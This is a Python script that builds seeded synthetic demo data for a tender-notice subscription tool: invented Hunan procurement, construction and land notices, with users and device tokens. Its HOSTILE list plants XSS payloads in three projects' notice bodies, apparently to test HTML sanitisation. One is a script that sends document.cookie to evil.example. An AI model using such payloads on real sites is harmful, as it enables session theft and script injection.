#!/usr/bin/env python3
"""Writes src/cli/demo/notices.jsonl.gz and users.jsonl.gz, the data of `yizhan demo`.

    demo-data.py [--projects 960] [--users 300] [--seed 1] [--out DIR]

Python 3.7 or later and nothing else; the same arguments give the same lines. Each line of
the notices is one operation, in the order in which they are to be played:

    {"op":"publish","notice":{..}}
    {"op":"revise","source_id":"..","editorial":false,"notice":{..}}
    {"op":"withdraw","source_id":"..","reason":".."}

Times are placeholders relative to the moment of play: "{{+1728000}}" (seconds) as a JSON
value, {{zh:+1728000}} inside titles and bodies. Everything but the regions is invented.
"""
import argparse
import collections
import gzip
import io
import json
import pathlib
import random

ROOT = pathlib.Path(__file__).resolve().parent.parent
DAY, HOUR = 86400, 3600

# ---- words

BUREAUS = '教育局 公安局 财政局 民政局 交通运输局 水利局 农业农村局 卫生健康局 住房和城乡建设局 城市管理局 林业局 档案馆 图书馆'.split()
SCHOOLS = '第一中学 职业中等专业学校 实验小学 思源学校 特殊教育学校'.split()
HOSPITALS = '人民医院 中医医院 妇幼保健院 疾病预防控制中心'.split()
COMPANIES = '城市建设投资有限公司 交通建设投资有限公司 水务投资有限公司 产业园区开发有限公司 文化旅游发展有限公司 国有资产经营有限公司'.split()
OWNERS = {'b': BUREAUS, 's': SCHOOLS, 'h': HOSPITALS, 'c': COMPANIES}
FIRST, SECOND = '恒宏泰建中正诚信华盛天安永利金鼎', '达远业通和昌源辉邦图德力宇星川麓'
BUILDERS = '建设工程有限公司 市政工程有限公司 路桥工程有限公司 水利水电工程有限公司'.split()
FIRMS = BUILDERS + '科技有限公司 信息技术有限公司 医疗器械有限公司 物业服务有限公司'.split()
AGENCIES = '项目管理有限公司 工程咨询有限公司 招标代理有限公司 招标采购咨询有限公司'.split()
PLACES = '城北 城南 河西 滨江 高铁新城 老城区 工业集中区 中心城区 南片区'.split()
TOWNS = '梅溪 白沙 石坝 枫林 双江 竹山 清水 龙潭 大塘 金盆 青山 桃林'.split()
SURNAMES = '陈李王张刘周黄彭谭罗'

WORKS = {  # sub-category → weight, what is built
    'a01': (38, '教学楼 门诊综合楼 安置小区 公租房 标准化厂房 老旧小区改造 体育馆 养老服务中心 派出所业务用房 农贸市场'),
    'a02': (24, '道路提质改造 雨污分流管网 污水处理厂 城区亮化 公园绿化 自来水厂扩建 燃气管道 停车场 黑臭水体治理'),
    'a03': (8, '县道改扩建 农村公路窄路加宽 公路安全生命防护 国省干线大修'),
    'a04': (1.2, '货运铁路专用线'),
    'a05': (2.4, '通用机场配套'),
    'a06': (1.4, '航道整治 码头泊位'),
    'a07': (11, '水库除险加固 高标准农田 中小河流治理 农村饮水安全巩固提升 灌区续建配套 山塘清淤'),
    'a08': (2, '光伏电站 变电站 农网改造'),
    'a09': (1.4, '邮件处理中心'),
    'a10': (1.2, '危桥改造 人行天桥'),
    'a11': (.8, '轨道交通站点接驳'),
    'a12': (1.2, '尾矿库治理'),
    'a13': (1.6, '智慧城市视频监控 数据中心机房'),
    'a14': (2.2, '装备制造生产线'),
    'a99': (8, '地质灾害治理 矿山生态修复 土地开发整理 景区基础设施'),
}
PARTS = [('施工', 55), ('监理', 15), ('设计', 10), ('勘察设计', 6), ('EPC总承包', 8), ('材料设备采购', 6)]
PROCURED = {
    'goods': (46, '办公家具 计算机及打印设备 彩色多普勒超声诊断仪 CT机 公务用车 校服 食堂设备 教学实训设备 交通信号设施 消防装备 空调 图书 实验室仪器 电梯 执法记录仪 防汛物资'),
    'services': (38, '物业管理服务 保安服务 信息系统运维服务 规划编制服务 环境监测服务 绿化养护服务 环卫保洁服务 审计服务 软件开发服务 印刷服务 职业技能培训服务 云服务租赁 食材配送服务 不动产测绘服务'),
    'works': (16, '校园运动场改造 办公楼维修改造 消防改造 弱电智能化 装饰装修'),
}
METHODS = [('G-OPEN', 42), ('G-CONSULT', 26), ('G-NEGOTIATE', 12), ('G-INQUIRY', 12), ('G-SINGLE', 5), ('G-INVITE', 2), ('G-PREQUAL', 2)]

# The other kinds: sub-category, name, offer, change, result, share, price in yuan
OTHERS = [
    ('land-use-right.residential', '{area}{place}{n}号地块住宅用地国有建设用地使用权', 'L-OFFER', 'L-CHANGE', 'L-DEAL', 5, 2e7),
    ('land-use-right.commercial', '{area}{place}{n}号地块商服用地国有建设用地使用权', 'L-OFFER', 'L-CHANGE', 'L-DEAL', 4, 2e7),
    ('land-use-right.industrial', '{area}{place}{n}号地块工业用地国有建设用地使用权', 'L-OFFER', 'L-CHANGE', 'L-DEAL', 4, 6e6),
    ('land-use-right.other', '{area}{place}{n}号地块公用设施用地国有建设用地使用权', 'L-OFFER', 'L-CHANGE', 'L-DEAL', 1, 3e6),
    ('mining-right.extraction', '{area}{town}建筑石料用灰岩矿采矿权', 'M-OFFER', None, 'M-RESULT', 2, 3e6),
    ('mining-right.exploration', '{area}{town}萤石矿探矿权', 'M-OFFER', None, 'M-RESULT', 1, 9e5),
    ('state-assets.equity', '{owner}持有的子公司{n}%股权', 'S-LIST', None, 'S-RESULT', 2, 5e6),
    ('state-assets.capital-increase', '{owner}子公司增资扩股', 'S-LIST', None, 'S-RESULT', 1, 1e7),
    ('state-assets.physical', '{owner}{n}台报废车辆', 'S-LIST', None, 'S-RESULT', 3, 1e5),
    ('state-assets.lease', '{owner}{place}{n}处门面租赁', 'S-LIST', None, 'S-RESULT', 5, 2e5),
    ('drug-procurement.drugs', '湖南省抗菌药物第{n}批集中采购', '23-TENDER', '23-CHANGE', '23-LIST', 1.4, None),
    ('drug-procurement.consumables', '湖南省医用耗材第{n}批集中采购', '23-TENDER', '23-CHANGE', '23-LIST', 1.4, None),
    ('drug-procurement.equipment', '湖南省乙类大型医用设备第{n}批集中采购', '23-TENDER', '23-CHANGE', '23-LIST', .5, None),
    ('vaccine-procurement', '湖南省非免疫规划疫苗第{n}批集中采购', '24-TENDER', '24-CHANGE', '24-LIST', 2, None),
    ('forest-right', '{area}{town}林场{n}亩林木所有权', 'F-LIST', None, 'F-DEAL', .8, 2e5),
    ('pollutant-discharge', '{area}化学需氧量排污权', '22-OFFER', None, '22-RESULT', .6, 1e5),
    ('carbon', '{area}碳排放配额', '21-OFFER', None, '21-RESULT', .4, 3e5),
    ('other.rural', '{area}{town}村土地经营权流转', 'O-NOTICE', None, 'O-DEAL', 3, 2e5),
    ('other.franchise', '{area}停车泊位特许经营权', 'O-NOTICE', None, 'O-DEAL', 1, 2e6),
    ('other.auction', '{area}罚没物资处置', 'O-NOTICE', None, 'O-DEAL', 1, 1e5),
]
SUFFIX = {
    'C-PLAN': '招标计划', 'C-TENDER': '招标公告', 'C-PREQUAL': '资格预审公告', 'C-CLARIFY': '澄清公告', 'C-SUSPEND': '终止公告',
    'C-OPENING': '开标记录', 'C-CANDIDATE': '中标候选人公示', 'C-RESULT': '中标结果公告', 'C-CONTRACT': '合同公示',
    'G-INTENT': '采购意向', 'G-OPEN': '公开招标公告', 'G-CONSULT': '竞争性磋商公告', 'G-NEGOTIATE': '竞争性谈判公告', 'G-INQUIRY': '询价公告',
    'G-SINGLE': '单一来源公示', 'G-INVITE': '邀请招标公告', 'G-PREQUAL': '资格预审公告', 'G-CORRECT': '更正公告', 'G-END': '终止公告',
    'G-VOID': '废标公告', 'G-AWARD': '中标公告', 'G-DEAL': '成交公告', 'G-CONTRACT': '合同公告', 'G-ACCEPT': '验收公告', 'L-OFFER': '挂牌出让公告',
    'L-CHANGE': '变更公告', 'L-DEAL': '成交公示', 'M-OFFER': '挂牌出让公告', 'M-RESULT': '出让结果公示', 'M-REGISTER': '登记公告',
    'S-LIST': '公开挂牌公告', 'S-RESULT': '交易结果公告', '23-TENDER': '公告', '23-CHANGE': '变更公告', '23-LIST': '挂网目录公布',
    '24-TENDER': '公告', '24-CHANGE': '变更公告', '24-LIST': '挂网目录公布', 'O-NOTICE': '交易公告', 'O-DEAL': '成交公示', 'F-LIST': '信息披露',
    'F-DEAL': '成交公告', '22-OFFER': '交易公告', '22-RESULT': '结果公示', '21-OFFER': '出售公告', '21-RESULT': '结果公示',
}
CLAUSES = [
    '本项目资金来源已经落实，交易活动依照国家和本省的有关规定组织，全过程接受行政监督部门和社会公众的监督。',
    '参加单位须在系统中完成主体信息登记并办理数字证书，因信息有误造成的后果自行承担。',
    '电子文件应当在截止时间之前上传成功，逾期系统将不再接收；请预留充足的上传时间。',
    '对公告内容有疑问的，可以在规定的期限内以书面形式提出，逾期提出的不再受理。',
    '保证金应当从基本账户转出，到账时间以银行记录为准，退还办法按照交易规则办理。',
    '联合体参加的，各方应当签订共同协议，明确牵头人以及各方承担的工作和义务。',
    '本公告同时在指定媒介发布，各媒介内容不一致的，以首次发布的媒介为准。',
    '信用记录查询渠道为国家和省级信用信息平台，查询结果随评审资料一并保存。',
]
WORD = ('<p class="MsoNormal" style="margin:0cm 0cm 0pt;line-height:24pt;text-indent:24pt;mso-pagination:widow-orphan">'
        '<span style="font-family:宋体;font-size:12pt"><font color="#000000">{}</font></span></p>')
HOSTILE = [
    '<script>document.location="https://evil.example/?c="+document.cookie</script>',
    '<p onclick="alert(1)" style="background:url(javascript:alert(2))">点击查看<img src=x onerror="alert(3)"></p>',
    '<a href="javascript:alert(document.domain)">下载附件</a><iframe src="https://evil.example/"></iframe>',
]
HOSTILE_PROJECTS = {12: 0, 55: 1, 400: 2}  # number of the project → what its call carries
STOPPED = '有效参加单位不足三家 采购需求发生重大变化 文件存在需要修改的重大事项 主管部门要求暂停'.split()
WITHDRAWN = '发布有误，撤回后重新发布 附件上传错误 主管部门要求撤回 重复发布'.split()


def pick(rng, table):
    x = rng.random() * sum(w for _, w in table)
    for value, w in table:
        x -= w
        if x < 0:
            return value
    return table[-1][0]


def money(fen):
    return f'{fen / 1000000:.4f}万元' if fen >= 10000000 else f'{fen / 100:,.2f}元'


def number(n):
    return '一二三四五六七八九'[n - 1]


def later(seconds):
    return '{{%+d}}' % seconds if seconds else '{{0}}'


def zh(seconds):
    return '{{zh:%+d}}' % seconds


def credit_code(name, region):
    """The form and check digit of a unified social credit code; the inside is invented."""
    digits = '0123456789ABCDEFGHJKLMNPQRTUWXY'
    kind = '91' if name.endswith('公司') else '11' if name.endswith('局') else '12'
    body = f'{kind}{region}9{sum(map(ord, name)):07d}0'
    total = sum(digits.index(c) * 3 ** i for i, c in enumerate(body))
    return body + digits[-total % 31]


# ---- regions

class Regions:
    """Hunan, out of the reference data."""

    def __init__(self):
        rows = json.loads((ROOT / 'src/reference/regions.json').read_text('utf-8'))
        self.rows = {r['code']: r for r in rows if r['code'][:2] == '43'}
        live = [r for r in self.rows.values() if not r.get('retired')]
        self.prefectures = [r['code'] for r in live if r['level'] == 'prefecture']
        self.counties = [r['code'] for r in live if r['level'] == 'county']

    def area(self, code):
        """The name as it stands before an authority's: 长沙市芙蓉区, 宁乡市."""
        row = self.rows[code]
        above = self.rows.get(row['parent'])
        if row['level'] == 'county' and row['name'].endswith('区') and above['short_name'] not in row['name']:
            return above['name'] + row['name']
        return row['name']

    def pick(self, rng, i):
        if i % 4 == 0:  # every county has its turn
            return self.counties[i // 4 * 37 % len(self.counties)]
        if rng.random() < .08:
            return '430000'
        if rng.random() < .3:
            return self.prefectures[int(len(self.prefectures) * rng.random() ** 1.8)]
        home = self.prefectures[int(len(self.prefectures) * rng.random() ** 1.8)]
        own = [c for c in self.counties if c[:4] == home[:4]]
        return own[int(len(own) * rng.random() ** 1.5)]


# ---- projects

class Project:
    """One life: a list of (time, operation) in its own order."""

    def __init__(self, i, seed, regions, stages, next_id):
        self.i, self.rng = i, random.Random(f'{seed}/{i}')
        self.stages, self.next_id = stages, next_id
        self.time, self.steps = float(i), []
        self.region = regions.pick(self.rng, i)
        self.area = regions.area(self.region)
        self.winner, self.price, self.attempt, self.sections = None, None, 1, 1
        self.contact = f'{self.rng.choice(SURNAMES)}{self.rng.choice(("先生", "女士"))}，电话：07{self.rng.randrange(30, 47)}-0000{self.rng.randrange(10000):04d}'
        self.agency = self.firm(AGENCIES) if self.rng.random() < .9 else None
        self.part, self.award_text = '', None
        x = self.rng.random()
        if x < .265:
            self.construction()
        elif x < .72:
            self.procurement()
        else:
            self.other()

    # -- what it is

    def firm(self, kinds=FIRMS):
        return '湖南' + self.rng.choice(FIRST) + self.rng.choice(SECOND) + self.rng.choice(kinds)

    def owner(self, kinds):
        return self.area + self.rng.choice(OWNERS[self.rng.choice(kinds)])

    def describe(self, category, letter, name, purchaser, yuan):
        # An old habit of feeds: Ningxiang's code of before 2017, Changsha's own level.
        self.code_region = {'430182': '430124', '430100': '430101'}.get(self.region, self.region) if self.i % 3 == 0 else self.region
        self.category, self.name, self.purchaser = category, name, purchaser
        self.code = f'{letter}-{self.region}-{self.i:05d}'
        self.budget = yuan and int(yuan * self.rng.lognormvariate(0, 1.2) / 1000 + 1) * 100000
        self.deadline = self.rng.randrange(10, 26) * DAY + self.rng.randrange(-6, 6) * HOUR

    def construction(self):
        rng = self.rng
        sub = pick(rng, [(k, w) for k, (w, _) in WORKS.items()])
        built = rng.choice(WORKS[sub][1].split())
        place = rng.choice(PLACES) if rng.random() < .5 else rng.choice(TOWNS) + rng.choice(('镇', '乡', '街道'))
        self.part = pick(rng, PARTS)
        scale = {'施工': 8e6, 'EPC总承包': 2e7, '材料设备采购': 4e6}.get(self.part, 6e5)
        self.describe('construction.' + sub, sub.upper(), f'{self.area}{place}{built}{rng.choice(("项目", "工程"))}', self.owner('bcchs' if sub == 'a01' else 'bcc'), scale)
        self.sections = 1 if rng.random() > .12 else rng.randrange(2, 4)
        if rng.random() < .04:
            self.publish('C-PLAN')
        call = 'C-PREQUAL' if rng.random() < .07 else 'C-TENDER'
        if not self.call(call, 'C-CLARIFY', .42, 'C-SUSPEND', .08):
            return
        if rng.random() < .1:
            self.publish('C-OPENING')
        for s in range(self.sections):
            self.settle(s, .9, rate=.18)
            self.publish('C-CANDIDATE', section=s)
            self.publish('C-RESULT', section=s)
            if rng.random() < .4:
                self.publish('C-CONTRACT', section=s)

    def procurement(self):
        rng = self.rng
        sub = pick(rng, [(k, w) for k, (w, _) in PROCURED.items()])
        item = rng.choice(PROCURED[sub][1].split())
        medical, school = ('超声' in item or 'CT' in item), ('校' in item or '教学' in item)
        purchaser = self.owner('h' if medical else 's' if school else 'bbbshh')
        self.describe('gov-procurement.' + sub, {'goods': 'D01', 'works': 'D02', 'services': 'D03'}[sub],
                      f'{purchaser}{item}{rng.choice(("采购项目", "项目", "采购"))}', purchaser, 7e5)
        if rng.random() < .03:
            self.publish('G-INTENT')
        method = pick(rng, METHODS)
        if not self.call(method, 'G-CORRECT', .26, rng.choice(('G-VOID', 'G-VOID', 'G-END')), .13):
            return
        self.settle(None, .9)
        self.publish('G-AWARD' if method in ('G-OPEN', 'G-INVITE', 'G-PREQUAL') else 'G-DEAL')
        if rng.random() < .34:
            self.publish('G-CONTRACT')
            if rng.random() < .1:
                self.publish('G-ACCEPT')

    def other(self):
        rng = self.rng
        sub, name, offer, change, result, _, yuan = pick(rng, [(row, row[5]) for row in OTHERS])
        if yuan is None:  # bought for the whole province
            self.region, self.area, self.agency = '430000', '湖南省', None
        owner = self.owner('ccb')
        name = name.format(area=self.area, place=rng.choice(PLACES), town=rng.choice(TOWNS), n=rng.randrange(1, 90), owner=owner)
        kind = sub.replace('.', '-').split('-')[0]
        seller = {'land': '自然资源局', 'mining': '自然资源局', 'forest': '林业局', 'other': '公共资源交易中心'}.get(kind, '生态环境局')
        purchaser = '湖南省医药集中采购管理机构' if yuan is None else owner if kind == 'state' else self.area + seller
        letter = {'land': 'B', 'mining': 'C', 'state': 'E'}.get(kind, 'Z')
        self.describe(sub, letter, name, purchaser, yuan)
        self.call(offer, change, .25 if change else 0, None, 0)
        if rng.random() < .85:
            self.settle(None, 1.15)
            self.publish(result)
            if result == 'M-RESULT' and rng.random() < .4:
                self.publish('M-REGISTER')

    def settle(self, section, level, rate=0.0):
        """Who won, and for how much."""
        self.winner = self.firm(BUILDERS if self.part else FIRMS)
        self.award_text = f'下浮率{self.rng.uniform(1, 12):.2f}%' if self.rng.random() < rate else None
        self.price = None
        if self.budget and not self.award_text:
            share = self.sections if section is not None else 1
            self.price = int(self.budget / share * level * self.rng.uniform(.9, 1.08) / 100) * 100

    # -- what happens to it

    def call(self, kind, change, p_change, stop, p_stop):
        """The call and all that may befall it; false when nothing follows."""
        rng = self.rng
        while True:
            first = self.publish(kind)
            if rng.random() < .03:
                self.put({'op': 'withdraw', 'source_id': first['source_id'], 'reason': rng.choice(WITHDRAWN)}, near=True)
                if rng.random() < .5:
                    return False
                first = self.publish(kind)
            if rng.random() < .1:
                self.revise(first, kind)
            changes = 0
            while change and changes < 3 and rng.random() < p_change / (1 + .3 * changes):
                self.amend(change, first)
                changes += 1
            if stop and rng.random() < p_stop:
                self.publish(stop, amended=first, reason=rng.choice(STOPPED))
                if rng.random() < .4 or self.attempt > 1:
                    return False
                self.attempt += 1
                continue
            return True

    def amend(self, kind, first):
        rng = self.rng
        changed = {}
        if rng.random() < .55:
            changed['old_deadline'] = self.deadline
            self.deadline += rng.choice((3, 5, 7, 10)) * DAY
        elif self.budget and rng.random() < .4:
            changed['old_budget'] = self.budget
            self.budget = int(self.budget * rng.uniform(.85, 1.2) / 100000 + 1) * 100000
        self.publish(kind, amended=first, **changed)

    def revise(self, first, kind):
        """A corrected edition under the same id: of the deadline, the budget, or of mere words."""
        rng = self.rng
        notice = json.loads(json.dumps(first))
        what = rng.choice(('deadline', 'deadline', 'budget', 'words'))
        if what == 'deadline' and kind != 'G-SINGLE':
            old, self.deadline = self.deadline, self.deadline + rng.choice((2, 5, 7)) * DAY
            for entry in notice['deadlines']:
                entry['at'] = entry['at'].replace(later(old), later(self.deadline))
            changes = {zh(old): zh(self.deadline)}
        elif what == 'budget' and self.budget:
            old, self.budget = self.amounts(kind), self.budget + 100000 * rng.randrange(1, 90)
            notice['amounts'] = self.amounts(kind)
            changes = {f'>{x["text"]}<': f'>{y["text"]}<' for x, y in zip(old, notice['amounts'])}
        else:
            what, changes = 'words', {'联系人：': '项目联系人：', '以文件为准': '以采购文件为准'}
        for before, after in changes.items():
            notice['body_html'] = notice['body_html'].replace(before, after)
        self.put({'op': 'revise', 'source_id': first['source_id'], 'editorial': what == 'words', 'notice': notice}, near=True)

    def publish(self, kind, **about):
        rng = self.rng
        notice = self.notice(kind, self.next_id(), **about)
        self.put({'op': 'publish', 'notice': notice})
        stage = self.stages[kind]
        if stage in ('award', 'contract'):
            text = notice['title'] + notice['body_html']
            if '{{zh' not in text and rng.random() < .014:  # another id is no news
                again = dict(notice, source_id=self.next_id())
                again['source_url'] = 'https://example.org/notice/' + again['source_id']
                self.put({'op': 'publish', 'notice': again}, near=True)
            elif stage == 'award' and rng.random() < .006:
                self.put({'op': 'withdraw', 'source_id': notice['source_id'], 'reason': rng.choice(WITHDRAWN)}, near=True)
        return notice

    def put(self, operation, near=False):
        """Lives go on faster at the beginning, so that a short demo shows whole ones."""
        if self.steps:
            self.time += self.rng.uniform(1, 6) if near else self.rng.uniform(2, 14 if self.i < 90 else 40)
        self.steps.append((self.time, self.i, len(self.steps), operation))

    # -- what is said about it

    def amounts(self, kind, corrected=False):
        stage, found = self.stages[kind], []
        if self.budget and (stage in ('tender', 'planning') or corrected):
            found.append(('budget', self.budget))
            if kind[0] in 'CG' and stage == 'tender':
                found.append(('control_price', self.budget // 1000 * 980))
        if self.price and stage in ('award', 'contract'):
            found.append(('award', self.price))
        return [{'kind': k, 'fen': fen, 'text': money(fen)} for k, fen in found]

    def notice(self, kind, source_id, section=None, amended=None, reason=None, old_deadline=None, old_budget=None):
        rng, stage = self.rng, self.stages[kind]
        again = f'（第{number(self.attempt)}次）' if self.attempt > 1 else ''
        part = f'（{number(section + 1)}标段）' if section is not None and self.sections > 1 else ''
        title = f'{self.name}{part}{self.part}{again}{SUFFIX[kind]}'
        if old_deadline and rng.random() < .25:
            title = f'关于{self.name}{self.part}{again}递交截止时间延期至{zh(self.deadline)}的公告'
        covered = range(self.sections) if section is None else [section]
        sections = [f'{self.code}-{s + 1:02d}' + (f'({self.attempt})' if self.attempt > 1 else '') for s in covered]

        amounts, deadlines, winners = self.amounts(kind, bool(old_budget)), [], []
        called = stage == 'tender' and kind != 'G-SINGLE'
        if called or old_deadline:
            deadlines.append(('bid', self.deadline))
        if called:
            deadlines.append(('opening', self.deadline))
            if kind[0] in 'CG':
                deadlines.append(('document', 5 * DAY))
        if kind == 'C-CANDIDATE':
            deadlines.append(('objection', 3 * DAY))
        if stage in ('award', 'contract') and not kind.endswith('-LIST'):
            winners = [self.winner]

        notice = {
            'source': 'demo', 'source_id': source_id, 'title': title, 'category': self.category, 'region': self.code_region,
            'notice_type': kind, 'project': {'code': self.code, 'name': self.name}, 'sections': sections,
        }
        link = rng.random()
        if amended and link < .5:
            notice['amends'] = amended['source_id']
        elif amended and link < .75 or not amended and link < .02:
            del notice['project']  # to be found by section
        elif amended:
            notice['sections'] = []  # to be found by project code
        if rng.random() < .97:
            notice['purchaser'] = {'name': self.purchaser}
            if self.i % 10 < 7:
                notice['purchaser']['code'] = credit_code(self.purchaser, self.region)
        if self.agency:
            notice['agency'] = {'name': self.agency}
        notice.update(
            winners=[{'name': n} for n in winners],
            amounts=amounts,
            deadlines=[{'kind': k, 'at': later(s)} for k, s in deadlines],
            body_html=self.body(title, kind, stage, reason, old_deadline, old_budget, dict(deadlines), {a['kind']: a['text'] for a in amounts}),
            source_url='https://example.org/notice/' + source_id,
            # a few arrive late, some of those too late to be announced
            published_at=later(-rng.choice((3 * HOUR, 9 * HOUR, 2 * DAY)) if rng.random() < .012 else 0))
        return notice

    def body(self, title, kind, stage, reason, old_deadline, old_budget, deadlines, amounts):
        rng = self.rng
        word = rng.random() < .07
        para = WORD.format if word else '<p>{}</p>'.format
        rows = [('项目名称', self.name), ('项目编号', self.code), ('行政区域', self.area), ('采购人' if kind[0] == 'G' else '招标人（出让人）', self.purchaser)]
        rows += [(label, amounts[k]) for k, label in (('budget', '预算金额'), ('control_price', '最高限价')) if k in amounts and not old_budget]
        if stage == 'amendment':
            rows.append(('更正事项', '递交截止时间' if old_deadline else '预算金额' if old_budget else '文件内容'))
        if old_deadline:
            rows += [('原递交截止时间', zh(old_deadline)), ('更正后递交截止时间', zh(self.deadline))]
        elif old_budget:
            rows += [('原预算金额', money(old_budget)), ('更正后预算金额', money(self.budget))]
        else:
            labels = (('document', '文件获取截止时间'), ('bid', '递交截止时间'), ('opening', '开标（竞价）时间'), ('objection', '公示截止时间'))
            rows += [(label, zh(deadlines[k])) for k, label in labels if k in deadlines]
        if stage == 'opening' or stage == 'award' and rng.random() < .4:
            rows.append(('开标（竞价）时间', zh(-2 * DAY)))
        if reason:
            rows.append(('终止（废标）原因', reason))
        if stage in ('award', 'contract') and not kind.endswith('-LIST'):
            rows += [('中标（成交）单位', self.winner), ('中标（成交）金额', self.award_text or (money(self.price) if self.price else '详见附件'))]
        out = [f'<h2>{title}</h2>', '<table border="1" cellspacing="0">']
        out += [f'<tr><td>{k}</td><td>{v}</td></tr>' for k, v in rows]
        out.append('</table>')
        if kind == 'C-CANDIDATE':
            out.append('<table border="1"><tr><th>名次</th><th>候选人</th><th>报价</th></tr>')
            for rank, name in enumerate([self.winner, self.firm(BUILDERS), self.firm(BUILDERS)]):
                bid = self.award_text or money(int(self.price * (1 + .02 * rank)))
                out.append(f'<tr><td>第{number(rank + 1)}名</td><td>{name}</td><td>{bid}</td></tr>')
            out.append('</table>')
        if stage == 'tender':
            out.append(para(f'{self.name}由{self.purchaser}组织实施，具体要求以文件为准。'))
            if self.sections > 1:
                out.append(para(f'本项目共划分{self.sections}个标段，可以就其中一个或者多个标段提出申请。'))
            if self.i in HOSTILE_PROJECTS:
                out.append(HOSTILE[HOSTILE_PROJECTS[self.i]])
        start = rng.randrange(len(CLAUSES))
        closing = [para('联系人：' + self.contact)] + ([para('代理机构：' + self.agency)] if self.agency else [])
        for k in range(len(CLAUSES)):
            if k >= 2 and sum(len(x.encode()) for x in out + closing) > 860:
                break
            out.append(para(CLAUSES[(start + k) % len(CLAUSES)]))
        return '\n'.join(out + closing)


def play(projects, seed):
    """All operations, projects mixed, each project's in order."""
    regions = Regions()
    types = json.loads((ROOT / 'src/reference/notice_types.json').read_text('utf-8'))
    stages = {t['code']: t['stage'] for t in types}
    count = 0

    def next_id():
        nonlocal count
        count += 1
        return f'gg{count:06d}'

    steps = []
    for i in range(projects):
        steps += Project(i, seed, regions, stages, next_id).steps
    return [operation for _, _, _, operation in sorted(steps, key=lambda s: s[:3])]


# ---- users

HOT = '施工 监理 道路 教学 医疗 设计 物业 绿化 污水 公路 水库 监控 家具 保洁 软件 农田 老旧小区 装修 光伏 培训 食材 电梯 消防 采矿权 门面'.split()
CATEGORIES = [('gov-procurement', 30), ('construction', 30), ('gov-procurement.services', 7), ('gov-procurement.goods', 8), ('construction.a01', 6),
              ('construction.a02', 6), ('construction.a07', 3), ('land-use-right', 4), ('state-assets', 4), ('mining-right', 1),
              ('drug-procurement', 2), ('other', 2), ('gov-procurement.works', 3), ('forest-right', .5)]
STAGES = [(['tender'], 34), (['tender', 'amendment', 'cancellation'], 26), (['evaluation', 'award'], 18), ([], 22)]
MISBEHAVE = ('refused', 'throttled', 'slow', 'cut', 'gone')  # slow and cut hold up whole calls: they fall to people with narrow filters


def users(n, seed, operations):
    rng, regions = random.Random(f'{seed}/users'), Regions()
    notices = [o['notice'] for o in operations if o['op'] == 'publish']
    lives = collections.Counter(x['project']['code'] for x in notices if 'project' in x)
    followed = sorted((c for c, k in lives.items() if k >= 4), key=lambda c: int(c[-5:]))[:40]
    buyers = [b for b, _ in collections.Counter(x['purchaser']['name'] for x in notices if 'purchaser' in x).most_common(40)]
    categories = {c['code']: c for c in json.loads((ROOT / 'src/reference/categories.json').read_text('utf-8'))}
    devices = 0
    for _ in range(n):
        user = {'display_name': '湖南' + rng.choice(FIRST) + rng.choice(SECOND) + rng.choice(FIRMS) if rng.random() < .8 else rng.choice(SURNAMES) + rng.choice(('先生', '女士')),
                'subscriptions': [], 'devices': []}
        home = regions.prefectures[int(14 * rng.random() ** 2)]
        for _ in range(0 if rng.random() < .08 else pick(rng, [(k, k ** -1.5) for k in range(1, 9)])):
            user['subscriptions'].append(subscription(rng, regions, categories, home, followed, buyers))
        for _ in range(pick(rng, [(0, 12), (1, 62), (2, 20), (3, 6)])):
            devices += 1
            platform = pick(rng, [('android', 55), ('ios', 30), ('harmony', 15)])
            prefix = MISBEHAVE[devices // 25 % 5] if devices % 25 == 7 else 'sbx'
            user['devices'].append({'platform': platform, 'name': {'android': '小米手机', 'ios': 'iPhone', 'harmony': '华为手机'}[platform],
                                    'token': f'{prefix}-{rng.getrandbits(96):024x}'})
        yield user


def subscription(rng, regions, categories, home, followed, buyers):
    x = rng.random()
    if x < .04:
        code = rng.choice(followed)
        return {'name': '关注项目 ' + code, 'filter': {'project': code}}
    if x < .08:
        buyer = rng.choice(buyers)
        return {'name': buyer, 'filter': {'purchaser': buyer}}
    chosen = sorted({pick(rng, CATEGORIES) for _ in range(pick(rng, [(0, 6), (1, 58), (2, 28), (3, 8)]))})
    x = rng.random()
    if x < .34:
        where = ['430000']
    elif x < .38:
        where = ['430124']  # Ningxiang, by the code of before 2017
    elif x < .80:
        where = sorted({home} | {regions.prefectures[int(14 * rng.random() ** 2)] for _ in range(rng.randrange(3))})
    else:
        where = [rng.choice([c for c in regions.counties if c[:4] == home[:4]])]
    words = sorted({HOT[int(len(HOT) * rng.random() ** 1.6)] for _ in range(pick(rng, [(1, 40), (2, 35), (4, 25)]))})
    keywords = {}
    x = rng.random()
    if x < .34:
        keywords['any'] = words
    elif x < .39:
        keywords['all'] = [rng.choice(('医院', '中学', '街道', '公路')), rng.choice(('采购', '项目', '工程'))]
    elif x < .43:
        keywords['none'] = [rng.choice(('监理', '设计', '保险', '租赁'))]
    elif x < .50:
        keywords = {'any': words, 'none': [w for w in ('监理', '设计', '保险') if w not in words][:2]}
    wanted = {'categories': chosen, 'regions': where, 'keywords': keywords}
    if rng.random() < .12:
        prefix = 'G' if any(c.startswith('gov') for c in chosen) else 'C'
        wanted['notice_types'] = {'G': ['G-OPEN', 'G-CONSULT', 'G-CORRECT'], 'C': ['C-TENDER', 'C-CLARIFY', 'C-SUSPEND']}[prefix]
    else:
        wanted['stages'] = pick(rng, STAGES)
    if rng.random() < .14:
        low = rng.choice((100000, 500000, 1000000, 4000000)) * 100
        wanted['amount'] = {'min_fen': low, 'unknown': rng.choice(('include', 'exclude'))}
        if rng.random() < .5:
            wanted['amount']['max_fen'] = low * rng.choice((5, 20))
    name = '、'.join(regions.rows[r]['short_name'] for r in where) + ' ' + ('、'.join(keywords.get('any', [])) or '、'.join(categories[c]['name_zh'] for c in chosen) or '全部')
    return {'name': name, 'filter': {k: v for k, v in wanted.items() if v}}


# ---- files

def write(path, rows):
    text = ''.join(json.dumps(r, ensure_ascii=False, separators=(',', ':')) + '\n' for r in rows)
    packed = io.BytesIO()
    with gzip.GzipFile(filename='', mode='wb', compresslevel=9, fileobj=packed, mtime=0) as out:
        out.write(text.encode())
    path.write_bytes(packed.getvalue())


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument('--projects', type=int, default=960)
    parser.add_argument('--users', type=int, default=300)
    parser.add_argument('--seed', type=int, default=1)
    parser.add_argument('--out', type=pathlib.Path, default=ROOT / 'src/cli/demo')
    args = parser.parse_args()
    operations = play(args.projects, args.seed)
    args.out.mkdir(parents=True, exist_ok=True)
    write(args.out / 'notices.jsonl.gz', operations)
    write(args.out / 'users.jsonl.gz', users(args.users, args.seed, operations))


if __name__ == '__main__':
    main()
